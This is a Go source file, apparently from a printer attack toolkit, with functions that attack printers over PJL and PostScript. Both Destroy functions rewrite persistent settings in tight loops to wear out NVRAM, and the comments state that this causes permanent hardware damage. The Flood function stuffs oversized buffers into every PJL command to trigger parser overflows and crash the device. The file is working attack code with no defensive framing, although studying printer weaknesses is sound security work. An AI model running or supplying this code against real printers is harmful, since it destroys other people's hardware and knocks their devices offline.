package prex

import (
	"bytes"
	"strconv"
	"strings"
	"time"
)

// StressReport summarizes an NVRAM write cycle run.
type StressReport struct {
	Cycles   int           // write cycles completed
	Elapsed  time.Duration // wall time until the run ended
	Crashed  bool          // device stopped answering
	NVRAMDead bool         // readback no longer sticks
}

// destroySteps is the number of DEFAULT writes batched per job.
const destroySteps = 100

// Destroy wears out the NVRAM by rewriting a persistent variable in
// tight batches. Every tenth batch the variable is set to a known
// value and read back; a missing or wrong readback ends the run. It
// loops until maxCycles write cycles or until the device gives out.
// This causes permanent hardware damage.
func (p *PJL) Destroy(maxCycles int, progress func(cycles int)) (StressReport, error) {
	if maxCycles <= 0 {
		maxCycles = 10000000 * destroySteps
	}
	start := time.Now()

	var chunk []string
	for n := 2; n < destroySteps; n++ {
		chunk = append(chunk, "@PJL DEFAULT COPIES="+strconv.Itoa(n%(destroySteps-2)))
	}
	batch := strings.Join(chunk, EOL) + EOL + "@PJL INFO ID"

	report := StressReport{}
	for count := 0; count*destroySteps < maxCycles; count++ {
		if count%10 == 0 {
			if err := p.Set("COPIES", "42"); err != nil {
				return report, err
			}
			copies, err := p.DInquire("COPIES")
			if err != nil {
				return report, err
			}
			if copies == "" || strings.Contains(copies, "?") {
				report.Crashed = count > 0
				report.Elapsed = time.Since(start)
				return report, nil
			}
			if !strings.Contains(copies, "42") {
				report.NVRAMDead = true
				report.Elapsed = time.Since(start)
				return report, nil
			}
		}
		if _, err := p.Command([]byte(batch), CmdOptions{}); err != nil {
			return report, err
		}
		report.Cycles = (count + 1) * destroySteps
		if progress != nil {
			progress(report.Cycles)
		}
	}
	report.Elapsed = time.Since(start)
	return report, nil
}

// floodTemplates are the PJL inputs stuffed with oversized buffers,
// covering every parser the language exposes.
var floodTemplates = []string{
	"@PJL SET [buffer]",
	"@PJL [buffer]",
	"@PJL COMMENT [buffer]",
	"@PJL ENTER LANGUAGE=[buffer]",
	`@PJL JOB NAME="[buffer]"`,
	`@PJL EOJ NAME="[buffer]"`,
	"@PJL INFO [buffer]",
	"@PJL ECHO [buffer]",
	"@PJL INQUIRE [buffer]",
	"@PJL DINQUIRE [buffer]",
	"@PJL USTATUS [buffer]",
	`@PJL RDYMSG DISPLAY="[buffer]"`,
	`@PJL FSQUERY NAME="[buffer]"`,
	`@PJL FSDIRLIST NAME="[buffer]"`,
	`@PJL FSINIT VOLUME="[buffer]"`,
	`@PJL FSMKDIR NAME="[buffer]"`,
	`@PJL FSUPLOAD NAME="[buffer]"`,
}

// Flood sends every user-facing PJL input stuffed with size filler
// bytes, which may trip buffer overflows in the parser. Device
// variables learned from INFO VARIABLES are flooded too. It returns
// whether the device still answers afterwards.
func (p *PJL) Flood(size int, progress func(input string)) (bool, error) {
	if size <= 0 {
		size = 10000
	}
	buffer := strings.Repeat("0", size)

	names, err := p.EnvNames()
	if err != nil {
		return false, err
	}
	inputs := make([]string, 0, len(names)+len(floodTemplates))
	for _, name := range names {
		inputs = append(inputs, "@PJL SET "+name+"=[buffer]")
	}
	inputs = append(inputs, floodTemplates...)

	for _, tpl := range inputs {
		if progress != nil {
			progress(tpl)
		}
		payload := strings.ReplaceAll(tpl, "[buffer]", buffer)
		_, err := p.Command([]byte(payload), CmdOptions{NoWait: true, TimeoutFactor: 10})
		if err != nil {
			return false, err
		}
	}
	reply, err := p.Command([]byte("@PJL ECHO"), CmdOptions{})
	if err != nil {
		return false, err
	}
	return reply != nil, nil
}

// Destroy wears out the NVRAM by flipping /WaitTimeout in a PostScript
// loop. Older interpreters commit every setsystemparams; newer ones
// only commit per job, so the loop exits after a fixed cycle count and
// is resubmitted. Every tenth job the parameter is read back to detect
// a dead store. This causes permanent hardware damage.
func (ps *PostScript) Destroy(maxCycles int, progress func(cycles int)) (StressReport, error) {
	const cycles = 100 // nvram writes per job, large values kill old devices faster
	if maxCycles <= 0 {
		maxCycles = 1000000 * cycles
	}
	start := time.Now()

	loop := "/value {currentsystemparams /WaitTimeout get} def\n" +
		"/count 0 def /new {count 2 mod 30 add} def\n" +
		"{ << /WaitTimeout new >> setsystemparams\n" +
		"  /count count 1 add def\n" +
		"  value count " + strconv.Itoa(cycles) + " eq {exit} if\n" +
		"} loop"

	report := StressReport{}
	for n := 0; n*cycles < maxCycles; n++ {
		if n%10 == 0 && n > 0 {
			reply, err := ps.cmd("currentsystemparams /WaitTimeout get ==")
			if err != nil {
				return report, err
			}
			if len(bytes.TrimSpace(reply)) == 0 {
				report.Crashed = true
				report.Elapsed = time.Since(start)
				return report, nil
			}
		}
		if _, err := ps.GlobalCommand([]byte(loop), CmdOptions{NoWait: true}); err != nil {
			return report, err
		}
		report.Cycles = (n + 1) * cycles
		if progress != nil {
			progress(report.Cycles)
		}
	}
	report.Elapsed = time.Since(start)
	return report, nil
}
